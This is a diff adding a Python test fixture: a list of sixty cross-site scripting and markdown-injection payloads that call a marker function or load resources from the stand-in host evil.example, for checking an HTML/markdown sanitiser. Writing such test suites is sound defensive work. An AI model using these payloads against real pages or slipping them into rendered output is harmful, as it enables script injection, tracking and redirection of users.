@@ -1,0 +1,73 @@
+"""Sixty texts that would run a script, fetch something or leave the page wherever they were trusted as HTML or markdown.
+
+Each tries to call ``lm_hit(...)`` or to fetch from ``evil.example``; a test that renders them watches for either.
+"""
+
+PAYLOADS: tuple[str, ...] = (
+    # script elements
+    "<script>lm_hit(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>lm_hit(2)</scr</script>ipt>",
+    "<script/x>lm_hit(3)</script\n>",
+    "</div></details><script>lm_hit(4)</script>",
+    "</style><script>lm_hit(5)</script>",
+    "<!--><script>lm_hit(6)</script-->",
+    "<![CDATA[<script>lm_hit(7)</script>]]>",
+    "<noscript><p title=\"</noscript><script>lm_hit(8)</script>\">",
+    "&lt;script&gt;lm_hit(9)&lt;/script&gt;",
+    "<script\x00>lm_hit(10)</script>",
+    "\\<script>lm_hit(11)\\</script>",
+    # event handlers
+    "<img src=x onerror=lm_hit(12)>",
+    "<img src=x onerror='lm_hit(13)'//",
+    '"><img src=x onerror=lm_hit(14)>',
+    "'><img src=x onerror=lm_hit(15)>",
+    "<body onload=lm_hit(16)>",
+    "<details open ontoggle=lm_hit(17)>x</details>",
+    "<input autofocus onfocus=lm_hit(18)>",
+    "<video><source onerror=lm_hit(19)></video>",
+    "<marquee onstart=lm_hit(20)>x</marquee>",
+    "<a href=# onclick=lm_hit(21) autofocus onfocus=lm_hit(21)>x</a>",
+    "<b style=animation-name:x onanimationstart=lm_hit(22)>x</b>",
+    '<p title="x" onmouseover="lm_hit(23)">hover</p>',
+    # SVG, MathML, frames, objects
+    "<svg onload=lm_hit(24)>",
+    "<svg><script>lm_hit(25)</script></svg>",
+    '<svg><a xlink:href="javascript:lm_hit(26)"><text y=20>x</text></a></svg>',
+    "<svg><animate onbegin=lm_hit(27) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=lm_hit(28)>",
+    "<iframe srcdoc='<script>parent.lm_hit(29)</script>'></iframe>",
+    "<iframe src=javascript:parent.lm_hit(30)></iframe>",
+    "<object data=data:text/html,<script>lm_hit(31)</script>></object>",
+    "<embed src=//evil.example/x.swf>",
+    "<template><script>lm_hit(32)</script></template>",
+    # addresses
+    "[click](javascript:lm_hit(33))",
+    "[click](JaVaScRiPt:lm_hit(34))",
+    "[click](java&#115;cript:lm_hit(35))",
+    "[click](&#x6A;avascript:lm_hit(36))",
+    "[click](java\tscript:lm_hit(37))",
+    "[click](\x01javascript:lm_hit(38))",
+    "[click](data:text/html;base64,PHNjcmlwdD5sbV9oaXQoMzkpPC9zY3JpcHQ+)",
+    "[click](vbscript:lm_hit(40))",
+    "[click](<javascript:lm_hit(41)>)",
+    "[click][x]\n\n[x]: javascript:lm_hit(42)",
+    "<javascript:lm_hit(43)>",
+    "[a [b](javascript:lm_hit(44)) c](javascript:lm_hit(44))",
+    '[click](https://ok.example "x\\" onmouseover=\\"lm_hit(45)")',
+    "[click](https://ok.example/\" onmouseover=\"lm_hit(46))",
+    # remote resources
+    "![tracker](https://evil.example/pixel.png)",
+    "!\\[x](https://evil.example/a.png) ![y][z]\n\n[z]: https://evil.example/b.png",
+    "<img src=https://evil.example/c.png>",
+    '<link rel=stylesheet href="https://evil.example/s.css">',
+    "<style>@import 'https://evil.example/t.css'; body{background:url(https://evil.example/u.png)}</style>",
+    '<div style="background:url(https://evil.example/v.png)">x</div>',
+    '<meta http-equiv=refresh content="0;url=https://evil.example/w">',
+    '<base href="https://evil.example/">',
+    '<form action="https://evil.example/x"><button autofocus formaction=javascript:lm_hit(57)>x</button></form>',
+    # code and maths
+    "```html\n<script>lm_hit(58)</script>\n```\n<script>lm_hit(58)</script>",
+    '```"><img src=x onerror=lm_hit(59)>\ncode\n```',
+    "$\\href{javascript:lm_hit(60)}{x}$ and $$</div><script>lm_hit(60)</script>$$ and `</code><script>lm_hit(60)</script>`",
+)
